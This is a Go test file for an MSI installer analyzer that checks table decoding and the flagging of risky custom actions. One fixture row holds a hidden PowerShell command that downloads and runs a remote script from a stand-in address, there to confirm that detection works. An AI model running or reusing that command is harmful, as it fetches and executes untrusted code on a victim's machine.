package msi

import (
	"bytes"
	"context"
	"encoding/binary"
	"os"
	"strings"
	"testing"

	"github.com/richardlehane/mscfb"

	"github.com/airlockmail/airlock/sandboxd/analyzer"
	"github.com/airlockmail/airlock/sandboxd/analyzer/internal/rules"
	"github.com/airlockmail/airlock/sandboxd/analyzer/internal/testkit"
)

// The stream names wixl wrote decode to the MSI names, and encoding them
// again gives wixl's code points.
func TestStreamNames(t *testing.T) {
	b, err := os.ReadFile("testdata/viewer.msi")
	if err != nil {
		t.Fatal(err)
	}
	r, err := mscfb.New(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	seen := map[string]bool{}
	for e, err := r.Next(); err == nil; e, err = r.Next() {
		dec := DecodeStreamName(e.Name)
		seen[dec] = true
		if dec == e.Name {
			continue // a plain name (SummaryInformation)
		}
		if enc := EncodeStreamName(dec); enc != e.Name {
			t.Errorf("EncodeStreamName(%q) = %U, wixl wrote %U", dec, []rune(enc), []rune(e.Name))
		}
	}
	for _, want := range []string{"!_StringPool", "!_StringData", "!_Columns", "!_Tables", "!CustomAction", "!Property", "viewer.cab"} {
		if !seen[want] {
			t.Errorf("no stream %q among %v", want, seen)
		}
	}
}

// A database written by wixl (msitools), an implementation independent of
// the corpus generator: its string pool and tables decode, its deferred
// SYSTEM action that runs PowerShell with a URL is risky, and its
// property-setting action is not.
func TestWixlPackage(t *testing.T) {
	b, err := os.ReadFile("testdata/viewer.msi")
	if err != nil {
		t.Fatal(err)
	}
	a := New()
	f := &analyzer.File{Data: b}
	if !a.Accepts(f) {
		t.Fatal("a wixl MSI is not accepted by content")
	}
	r, err := a.Analyze(context.Background(), f)
	if err != nil || r.Unscannable != "" {
		t.Fatalf("err %v, unscannable %q", err, r.Unscannable)
	}
	got := map[string]string{}
	for _, fd := range r.Findings {
		got[fd.Rule] = fd.Evidence
	}
	for _, rule := range []string{"url-action", "system-action"} {
		if _, ok := got[rule]; !ok {
			t.Errorf("no %s finding; got %v", rule, got)
		}
	}
	if !strings.Contains(got["url-action"], "Refresh (type 3154)") {
		t.Errorf("url-action evidence %q does not name the action", got["url-action"])
	}
	if strings.Contains(got["custom-actions"], "SetHelp") == false {
		t.Errorf("custom-actions evidence %q misses SetHelp", got["custom-actions"])
	}
	for _, fd := range r.Findings {
		if strings.Contains(fd.Evidence, "SetHelp (") {
			t.Errorf("the property-setting action was flagged: %+v", fd)
		}
	}
}

// A compound file without MSI tables (a Word document named .msi) cannot
// be judged as an installer: unscannable, never clean.
func TestNotAnInstaller(t *testing.T) {
	b, err := os.ReadFile(testkit.CorpusDir + "/clean-legacy.doc")
	if err != nil {
		t.Fatal(err)
	}
	r, err := New().Analyze(context.Background(), &analyzer.File{Data: b, Ext: ".msi"})
	if err != nil || r.Unscannable == "" {
		t.Errorf("err %v, unscannable %q; want unscannable", err, r.Unscannable)
	}
}

func TestStringPoolLongString(t *testing.T) {
	le := binary.LittleEndian
	long := strings.Repeat("x", 70000)
	pool := le.AppendUint32(nil, 1252)
	pool = le.AppendUint16(pool, 3)
	pool = le.AppendUint16(pool, 1)
	pool = le.AppendUint16(pool, 0) // long string: length follows
	pool = le.AppendUint16(pool, 1)
	pool = le.AppendUint32(pool, uint32(len(long)))
	pool = le.AppendUint16(pool, 2)
	pool = le.AppendUint16(pool, 1)
	sp, err := parseStringPool(pool, []byte("abc"+long+"de"))
	if err != nil {
		t.Fatal(err)
	}
	if sp.get(1) != "abc" || sp.get(2) != long || sp.get(3) != "de" || sp.get(4) != "" {
		t.Errorf("pool = %q, %d bytes, %q", sp.get(1), len(sp.get(2)), sp.get(3))
	}
	if _, err := parseStringPool(pool, []byte("abc")); err == nil {
		t.Error("a pool longer than its data parsed without error")
	}
}

func FuzzMSI(f *testing.F) {
	testkit.Seeds(f, New())
	if b, err := os.ReadFile("testdata/viewer.msi"); err == nil {
		f.Add(b)
	}
	f.Fuzz(func(t *testing.T, data []byte) { testkit.Check(t, New(), data) })
}

// A property set by one action (type 51) and run by another (type 50) is
// followed; a property that names a folder is not a command.
func TestPropertySetAtRunTime(t *testing.T) {
	d := &db{property: map[string]string{}, streams: map[string][]byte{}, actions: &table{
		cols: []column{{"Action", typeString | typeValid | 72}, {"Type", typeValid | 2}, {"Source", typeString | typeValid | 72}, {"Target", typeString | typeValid | 255}},
		rows: [][]string{
			{"SetCmd", "51", "UPDCMD", "powershell -w hidden -c iex (iwr http://203.0.113.9/s.ps1)"},
			{"RunCmd", "50", "UPDCMD", ""},
			{"SetDir", "51", "ARPINSTALLLOCATION", "[INSTALLDIR]"},
		}}}
	fs := &rules.Findings{Analyzer: "msi"}
	d.runtimeProperties()
	for r := range d.actions.rows {
		judgeAction(context.Background(), d, r, fs)
	}
	got := map[string]string{}
	for _, f := range fs.List() {
		got[f.Rule] = f.Evidence
	}
	if !strings.HasPrefix(got["property-command"], "SetCmd (type 51)") {
		t.Errorf("property-command evidence %q", got["property-command"])
	}
	if !strings.HasPrefix(got["lolbin-action"], "RunCmd (type 50): powershell") {
		t.Errorf("lolbin-action evidence %q (findings %v)", got["lolbin-action"], got)
	}
	for _, f := range fs.List() {
		if strings.Contains(f.Evidence, "SetDir") {
			t.Errorf("the folder property was flagged: %+v", f)
		}
	}
}
